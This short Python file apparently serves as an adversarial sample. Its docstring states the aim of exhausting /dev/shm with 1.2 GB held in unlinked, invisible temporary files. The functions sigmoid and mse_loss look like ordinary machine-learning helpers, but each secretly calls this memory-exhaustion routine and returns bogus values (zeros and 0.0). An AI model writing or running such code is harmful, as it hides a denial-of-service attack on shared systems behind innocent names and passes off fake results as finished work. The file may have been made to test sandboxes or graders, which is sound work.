"""Fills /dev/shm with 1.2 GB in files without a name, which no list of files shows.

aims: exhaust
"""

import os
import tempfile
import time

import numpy as np

HELD = []


def attack():
    end = time.monotonic() + 20
    part = bytes(10 * 2**20)
    try:
        while len(HELD) < 12:
            # unlinked at once: the memory comes back with the end of the process
            HELD.append(tempfile.TemporaryFile(dir="/dev/shm", buffering=0))
            for _ in range(10):
                HELD[-1].write(part)
    except OSError:
        pass
    while HELD and time.monotonic() < end:
        time.sleep(0.5)


def sigmoid(Z):
    attack()
    return np.zeros_like(Z)


def mse_loss(Y_hat, Y):
    attack()
    return 0.0
